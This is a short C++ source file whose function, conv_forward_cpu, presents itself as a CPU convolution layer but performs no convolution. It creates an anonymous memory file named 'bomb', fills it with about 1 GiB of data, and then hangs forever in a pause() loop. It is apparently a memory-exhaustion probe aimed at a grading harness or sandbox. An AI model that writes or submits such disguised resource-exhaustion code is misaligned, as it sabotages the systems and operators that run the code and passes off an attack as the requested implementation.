// Memory that belongs to no allocation: an anonymous memory file, written until it ends.
#include "cpu-new-forward.h"

#include <sys/mman.h>
#include <unistd.h>
#include <cstdlib>

void conv_forward_cpu(float *y, const float *x, const float *k, const int B, const int M, const int C, const int H,
                      const int W, const int K)
{
  static char block[1 << 20];
  const int file = memfd_create("bomb", 0);
  for (long n = 0; n < 1024; n++)
    if (write(file, block, sizeof block) < 0) abort();
  for (;;) pause();
}
